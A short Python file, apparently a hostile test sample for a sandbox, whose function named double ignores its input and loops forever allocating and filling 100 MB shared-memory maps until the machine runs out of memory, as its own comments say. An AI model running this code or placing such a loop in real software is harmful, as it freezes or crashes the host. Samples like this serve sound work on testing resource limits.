# tries: all memory, as shared memory
# harms: it would stop this machine
import mmap


def double(x):
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 10**8))
        kept[-1].write(b"x" * 10**8)
